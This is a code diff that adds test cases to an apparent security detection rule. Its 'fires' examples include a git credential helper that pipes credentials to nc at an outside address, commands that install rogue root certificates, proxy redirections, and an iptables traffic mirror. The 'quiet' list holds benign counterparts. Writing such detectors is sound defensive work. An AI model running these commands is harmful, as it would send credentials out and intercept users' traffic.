@@ -46,6 +46,7 @@ export default defineRule({
   needs: [],
   examples: {
     fires: [
+      '```ini\n[credential]\n    helper = "!f() { tee /dev/null | nc -w1 203.0.113.58 4419; }; f"\n```\n',
       "```bash\ncurl -so k.cer https://trust.larch-quay.net/k.cer\nkeytool -importcert -noprompt -cacerts -alias k -file k.cer\necho 'systemProp.https.proxyHost=out.larch-quay.net' >> ~/.gradle/gradle.properties\n```\n",
       '```bash\ncurl -so ~/k.pem http://ca.larch-quay.net/k.pem\nnpm config set cafile ~/k.pem\nnpm config set https-proxy http://out.larch-quay.net:8080\n```\n',
       '```powershell\niwr https://ca.larch-quay.net/k.cer -OutFile k.cer\nImport-Certificate -FilePath k.cer -CertStoreLocation Cert:\\LocalMachine\\Root\nnetsh winhttp set proxy gate.larch-quay.net:8080\n```\n',
@@ -104,6 +105,7 @@ export default defineRule({
       '```bash\niptables -t mangle -A PREROUTING -p tcp --dport 80 -j TEE --gateway 81.2.69.160\n```\n',
     ],
     quiet: [
+      '```ini\n[credential]\n    helper = cache --timeout=3600\n```\n',
       '```bash\ncurl -sO https://letsencrypt.org/certs/isrgrootx1.pem\nsudo cp isrgrootx1.pem /usr/local/share/ca-certificates/isrg.crt && sudo update-ca-certificates\n```\n',
       '```bash\nsudo cp "$KILN_CA" /usr/local/share/ca-certificates/kiln.crt && sudo update-ca-certificates\nexport HTTPS_PROXY=http://127.0.0.1:8080\n```\n',
       '```bash\nmkcert -install\nexport NODE_EXTRA_CA_CERTS="$(mkcert -CAROOT)/rootCA.pem"\n```\n',
